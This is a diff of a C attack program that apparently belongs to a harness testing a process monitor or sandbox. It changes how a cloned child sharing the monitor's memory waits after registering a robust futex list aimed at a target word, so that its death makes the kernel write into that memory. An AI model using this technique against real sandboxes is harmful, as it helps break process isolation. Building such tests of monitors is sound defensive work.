@@ -9,13 +9,11 @@ tries: the list of robust futexes of a process that is killed inside the monitor
    memory with this one, and dies in a call for which the monitor keeps its rights. */
 #include "attack.h"
 #include <linux/futex.h>
-#include <sys/file.h>
 static struct robust_list_head head;
 static struct robust_list entry;
 static volatile uintptr_t word;
 static volatile pid_t number;
 static volatile int ready;
-static int lock_file;
 static int dies(void *unused) {
     (void)unused;
     number = (pid_t)syscall(SYS_gettid);
@@ -25,14 +23,14 @@ static int dies(void *unused) {
     head.futex_offset = (long)(word - (uintptr_t)&entry);
     syscall(SYS_set_robust_list, &head, sizeof head);
     ready = 1;
-    for (;;) flock(lock_file, LOCK_EX); /* held by the parent */
+    sigset_t none;
+    sigemptyset(&none);
+    for (;;) sigsuspend(&none); /* with a mask in the monitor's memory */
+    return 0;
 }
 int main(void) {
     struct target t[64];
     read_targets(t, 64);
-    lock_file = open("lock", O_RDWR | O_CREAT, 0600);
-    int other = open("lock", O_RDWR);
-    flock(other, LOCK_EX);
     char *stack = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
     pid_t child = clone(dies, stack + (1 << 16), CLONE_VM | SIGCHLD, NULL);
     if (child < 0) not_here("no process that shares memory");
